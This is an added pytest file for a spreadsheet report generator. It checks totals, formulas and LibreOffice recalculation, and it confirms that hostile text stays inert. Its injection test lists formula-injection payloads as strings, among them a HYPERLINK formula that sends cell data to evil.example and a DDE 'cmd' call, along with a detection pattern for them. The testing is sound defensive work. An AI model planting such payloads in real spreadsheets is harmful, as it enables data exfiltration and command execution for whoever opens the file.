@@ -1,0 +1,247 @@
+"""The workbook of a run: text stays text, numbers are numbers, totals are formulas that a spreadsheet reckons alike."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import shutil
+import subprocess
+import zipfile
+from dataclasses import replace
+from pathlib import Path
+from typing import NamedTuple
+from xml.etree import ElementTree
+
+import pytest
+from python_calamine import CalamineWorkbook
+
+from cpm_opt.formulation.components.capacity import Capacity
+from cpm_opt.formulation.draft import Weights
+from cpm_opt.report.terminal import clean
+from cpm_opt.report.workbook import workbook
+from cpm_opt.runs import RunRecord, read_run
+from cpm_opt.solve.plan import ScenarioPlan
+from cpm_opt.solve.recount import doing_nothing, recount
+from tests.handmade import RATE, decisions, no_plan, plan, portfolio, written
+from tests.report.hostile import NAMES, hostile_run
+
+SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
+SPACE = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+RELATIONS = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
+# Every function that a formula of the workbook may use; none of them reaches out of the workbook.
+FUNCTIONS = {"SUM", "SUBTOTAL", "SUMIFS", "SUMPRODUCT", "EXACT", "MAX", "IF"}
+CSV_OF_EVERY_SHEET = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false,false,false,-1"
+
+
+class Formula(NamedTuple):
+    sheet: str
+    place: str
+    text: str
+    value: float | None
+
+
+def formulas(data: bytes) -> list[Formula]:
+    """Every formula of a workbook with the value that is written beside it."""
+    found = []
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        book = ElementTree.fromstring(archive.read("xl/workbook.xml"))
+        for number, sheet in enumerate(book.findall("x:sheets/x:sheet", SPACE), start=1):
+            assert sheet.get(RELATIONS) == f"rId{number}"
+            root = ElementTree.fromstring(archive.read(f"xl/worksheets/sheet{number}.xml"))
+            for cell in root.findall(".//x:c[x:f]", SPACE):
+                value = cell.findtext("x:v", None, SPACE)
+                formula = cell.findtext("x:f", "", SPACE)
+                found.append(
+                    Formula(
+                        str(sheet.get("name")), str(cell.get("r")), formula, float(value) if value else None
+                    )
+                )
+    return found
+
+
+def sheet(data: bytes, name: str) -> list[list[object]]:
+    """The rows of a sheet as a reader of the cached values sees them."""
+    return (
+        CalamineWorkbook.from_filelike(io.BytesIO(data))
+        .get_sheet_by_name(name)
+        .to_python(skip_empty_area=False)
+    )
+
+
+def row_of(data: bytes, name: str, first: str) -> list[object]:
+    return next(row for row in sheet(data, name) if row[0] == first)
+
+
+@pytest.fixture(scope="module")
+def run(tmp_path_factory: pytest.TempPathFactory) -> RunRecord:
+    return read_run(written(tmp_path_factory.mktemp("results")))
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> RunRecord:
+    return hostile_run(tmp_path_factory.mktemp("hostile"))
+
+
+def risky(results: Path) -> RunRecord:
+    """A run over three scenarios, whose margins differ."""
+    made = plan(portfolio(money_unit=1.0))
+    chosen, weights = decisions(made.portfolio), Weights(discount_rate=RATE)
+    cases = []
+    for name, chance, factor in (("as expected", 0.5, 1.0), ("good", 0.3, 1.1), ("bad", 0.2, 0.8)):
+        flows = {
+            key: replace(flow, per_customer=flow.per_customer * factor)
+            for key, flow in made.portfolio.flows.items()
+        }
+        p = replace(made.portfolio, flows=flows)
+        done, _, _ = recount(p, chosen, (Capacity(),), weights)
+        today, _, _ = recount(p, doing_nothing(p), (Capacity(),), weights)
+        cases.append(ScenarioPlan(name, chance, chosen, done, today, p))
+    return read_run(written(results, replace(made, scenarios=tuple(cases))))
+
+
+def test_the_sheets_and_what_they_hold(run):
+    data = workbook(run)
+    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
+    assert book.sheet_names == [
+        "summary", "explanation", "plan", "options", "segments", "resources", "choices", "rules", "waterfall",
+        "waterfall_parts", "origin",
+    ]  # fmt: skip
+    assert sheet(data, "plan")[2] == ["segment", "month", "lever", "option", "customers", "share"]
+    assert ["silver", 1.0, "service", "better", 96.0, 0.24] in sheet(data, "plan")
+    assert sheet(data, "segments")[2][:6] == [
+        "segment", "kind", "tier", "month", "customers", "margin, thousand RUB",
+    ]  # fmt: skip
+    assert row_of(data, "options", "service")[1:] == ["as now", 404.0, 388.0]
+    assert any("thousand RUB" in str(row[0]) for row in sheet(data, "summary"))
+
+
+def test_the_totals_are_the_figures_of_the_run(run):
+    data, facts = workbook(run), run.facts
+    profit = row_of(data, "summary", "profit")
+    cent = 0.00001  # of tables in thousands
+    assert profit[1:4] == pytest.approx(
+        [facts["today"]["profit"], facts["profit"], facts["profit"] - facts["today"]["profit"]], abs=cent
+    )
+    assert row_of(data, "waterfall", "profit of the plan")[3] == pytest.approx(facts["profit"], abs=cent)
+    left = row_of(data, "waterfall", "difference (0, up to rounding to the cent)")[3]
+    assert left == pytest.approx(0, abs=cent)
+    objective = row_of(data, "summary", "all that counts, as the model weighs it")
+    assert objective[1:3] == pytest.approx([facts["today"]["objective"], facts["objective"]], abs=cent)
+    live = {(each.sheet, each.place): each.text for each in formulas(data)}
+    assert live["summary", "C6"] == "waterfall!$D$9"
+    assert live["summary", "C10"] == "1.0*(C6+C8+C9)+1.0*C7"
+    months = [row for row in sheet(data, "summary") if row[0] in (1.0, 2.0)]
+    assert [row[1] for row in months] == [500.0, 500.0]
+    assert months[0][2] == pytest.approx(100 * 50 + 400 * 10 + 96 * 8 + 100 * 2)
+
+
+def test_scenarios_are_weighed_by_their_probability(tmp_path):
+    data = workbook(risky(tmp_path))
+    mean = row_of(data, "scenarios", "mean by probability")
+    outcomes = [row for row in sheet(data, "scenarios") if isinstance(row[1], float)][1:]
+    assert mean[1] == pytest.approx(1.0)
+    assert mean[2] == pytest.approx(sum(row[1] * row[2] for row in outcomes))
+    # Under risk the total is no sum of the lines above it, so it stands as a number.
+    assert not [each for each in formulas(data) if "*(C6+C8+C9)" in each.text]
+
+
+def test_text_never_becomes_a_formula(hostile):
+    data = workbook(hostile)
+    for each in formulas(data):
+        assert set(re.findall(r"[A-Z][A-Z.]*(?=\()", each.text)) <= FUNCTIONS
+        assert not re.search(r"evil|cmd|\[|http", each.text)
+    names = ("plan", "segments", "resources", "explanation", "origin", "summary")
+    cells = {str(cell) for name in names for row in sheet(data, name) for cell in row}
+    text = "\n".join(cells)
+    assert [name for name in NAMES if clean(name.strip()) not in text] == []
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert [name for name in archive.namelist() if "external" in name.lower()] == []
+        assert b"<hyperlink" not in b"".join(archive.read(name) for name in archive.namelist())
+
+
+@pytest.mark.parametrize("status", ["infeasible", "no_solution"])
+def test_a_run_without_a_plan_has_no_tables_and_says_why(tmp_path, status):
+    data = workbook(read_run(written(tmp_path, no_plan(status))))
+    assert CalamineWorkbook.from_filelike(io.BytesIO(data)).sheet_names == [
+        "summary",
+        "explanation",
+        "origin",
+    ]
+    assert any("No plan" in str(row[0]) for row in sheet(data, "summary"))
+
+
+def test_the_same_run_gives_the_same_bytes(run):
+    assert workbook(run) == workbook(read_run(run.path))
+
+
+def test_a_table_too_long_for_a_sheet_is_left_out_whole_and_named(run, monkeypatch):
+    monkeypatch.setattr("cpm_opt.report.workbook.xlsx.MOST_ROWS", 5)
+    data = workbook(run)
+    names = CalamineWorkbook.from_filelike(io.BytesIO(data)).sheet_names
+    assert "plan" not in names
+    assert "resources" in names
+    assert "plan.csv has 10 rows, too many for a sheet: it is left out." in [
+        row[0] for row in sheet(data, "summary")
+    ]
+
+
+def unreckoned(data: bytes) -> bytes:
+    """The workbook without the values beside its formulas: whoever opens it has to reckon them."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as archive, zipfile.ZipFile(out, "w") as stripped:
+        for name in archive.namelist():
+            content = archive.read(name)
+            if name.startswith("xl/worksheets/"):
+                content = re.sub(rb"(</f>)<v>[^<]*</v>", rb"\1", content)
+            stripped.writestr(name, content)
+    return out.getvalue()
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(SOFFICE is None, reason="no LibreOffice is installed")
+def test_libreoffice_reckons_every_total_as_it_is_written(hostile, tmp_path):
+    data = workbook(hostile)
+    (tmp_path / "run.xlsx").write_bytes(unreckoned(data))
+    assert SOFFICE is not None
+    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
+    call = [
+        SOFFICE,
+        profile,
+        "--headless",
+        "--convert-to",
+        CSV_OF_EVERY_SHEET,
+        "--outdir",
+        str(tmp_path),
+        "run.xlsx",
+    ]
+    subprocess.run(call, cwd=tmp_path, capture_output=True, timeout=180, check=True)
+    tables: dict[str, list[list[str]]] = {}
+    wrong = []
+    for each in formulas(data):
+        if each.sheet not in tables:
+            text = (tmp_path / f"run-{each.sheet}.csv").read_text(encoding="utf-8")
+            tables[each.sheet] = list(csv.reader(io.StringIO(text)))
+        letters, number = re.fullmatch(r"([A-Z]+)(\d+)", each.place).groups()  # type: ignore[union-attr]
+        column = (
+            int(letters, 36) - 10 if len(letters) == 1 else pytest.fail("more columns than were thought of")
+        )
+        shown = tables[each.sheet][int(number) - 1][column]
+        value = None if not shown else float(shown[:-1]) / 100 if shown.endswith("%") else float(shown)
+        if value != (None if each.value is None else pytest.approx(each.value, rel=1e-9, abs=1e-9)):
+            wrong.append((each, shown))
+    assert len(tables) >= 6
+    assert wrong == []
+    texts = {cell for rows in tables.values() for row in rows for cell in row}
+    assert {'=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "*", ">5"} <= texts
+
+
+def test_facts_of_a_damaged_run_are_told(run, tmp_path):
+    copy = tmp_path / run.id
+    shutil.copytree(run.path, copy)
+    facts = json.loads((copy / "run.json").read_text(encoding="utf-8"))
+    del facts["today"]["objective"]
+    (copy / "run.json").write_text(json.dumps(facts), encoding="utf-8")
+    with pytest.raises(Exception, match="the run is damaged"):
+        workbook(read_run(copy))
